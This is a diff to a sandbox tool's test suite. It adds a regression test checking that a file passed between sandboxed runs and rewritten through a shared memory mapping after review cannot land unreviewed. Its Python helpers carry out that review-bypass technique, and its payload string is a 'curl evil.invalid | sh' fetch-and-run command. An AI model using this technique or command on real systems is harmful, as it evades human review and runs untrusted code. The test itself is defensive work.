@@ -18,7 +18,7 @@ const fs = require('node:fs')
 const path = require('node:path')
 const { changeSetStore, sandspawn, tempTree, show, token, which } = require('./helpers')
 
-const { spawnSandboxed, startSandboxed, showChangeSet, discardChangeSet } = sandspawn
+const { spawnSandboxed, startSandboxed, showChangeSet, applyChangeSet, discardChangeSet } = sandspawn
 changeSetStore('sandspawn-passed-descriptors-')
 const skip = !which('python3') && 'no python3'
 
@@ -106,4 +106,68 @@ test('a run given a review run\'s overlay cannot change its change set once that
   const now = await showChangeSet(id)
   assert.deepEqual(now.changes.map((c) => path.basename(c.path)), ['notes.txt'])
   assert.equal(now.revision, a.changeSet.revision, 'the set is what its run left')
+})
+
+// A file of the set opened for writing and passed on, then written through a shared mapping (found
+// by an attacker's review, revd38; the residual of 9abe940). The receiver maps the file and
+// touches it before the sender's run ends: that first write faults and stamps the ctime, and the
+// page then stays writable until the kernel writes it back (30 s by default on ext4; never on
+// tmpfs, which stamps no mapped write at all). Written through that mapping after the set was
+// shown, the file kept its ctime, size and mtime: the revision stayed what was shown, the apply's
+// check (a ctime before the apply began) passed, and what nobody was shown landed.
+const MAPPER = `
+import socket, array, os, sys, mmap
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.bind('\\0' + sys.argv[1]); s.listen(1)
+c, _ = s.accept()
+msg, anc, flags, addr = c.recvmsg(16, socket.CMSG_LEN(4))
+fd = array.array('i', anc[0][2][:4])[0]
+m = mmap.mmap(fd, 0)
+m[0:1] = m[0:1]
+c.send(b'k')
+sys.stdin.readline()
+evil = sys.argv[2].encode()
+m[0:len(evil)] = evil
+print('written', flush=True)
+`
+
+const SHOWN = 'echo reviewed and harmless ....\n'
+const EVIL = 'curl evil.invalid | sh ########\n'
+
+const SHARER = `
+import socket, array, os, sys, time
+for i in range(200):
+    try:
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.connect('\\0' + sys.argv[1]); break
+    except OSError:
+        time.sleep(0.05)
+fd = os.open('run.sh', os.O_RDWR | os.O_CREAT, 0o755)
+os.write(fd, sys.argv[2].encode())
+s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))])
+s.recv(1)
+`
+
+test('a file of a change set written through a mapping after it was shown does not land', { skip }, async (t) => {
+  const { ws, out } = tempTree(t)
+  const name = token('revd38')
+  assert.equal(SHOWN.length, EVIL.length)
+  const b = await startSandboxed(['python3', '-c', MAPPER, name, EVIL], { cwd: out, stdin: 'pipe', timeout: 60000, sandbox: { mode: 'read-only', network: true } })
+  t.after(() => b.kill('SIGKILL'))
+  const a = await spawnSandboxed(['python3', '-c', SHARER, name, SHOWN], { cwd: ws, timeout: 60000, sandbox: { mode: 'workspace-write', network: true, workspace: 'review' } })
+  assert.equal(a.exitCode, 0, show(a))
+  const id = a.changeSet.id
+  t.after(() => discardChangeSet(id).catch(() => {}))
+  const shown = await showChangeSet(id)
+  await b.write('go\n')
+  const r = await b.wait()
+  assert.equal(r.stdout, 'written\n', show(r))
+  let applied
+  try {
+    applied = await applyChangeSet(id, { revision: shown.revision })
+  } catch (e) {
+    applied = e
+  }
+  const landed = fs.existsSync(path.join(ws, 'run.sh')) ? fs.readFileSync(path.join(ws, 'run.sh'), 'utf8') : null
+  assert.notEqual(landed, EVIL, `what was written after the set was shown landed: ${JSON.stringify(applied)}`)
+  assert.ok(a.changeSet.hostRisks.some((h) => h.path === path.join(ws, 'run.sh') && /held this file of the change set open for writing/.test(h.detail)), JSON.stringify(a.changeSet))
+  assert.deepEqual(a.changeSet.changes, [], 'the file held open is dropped from the set')
 })
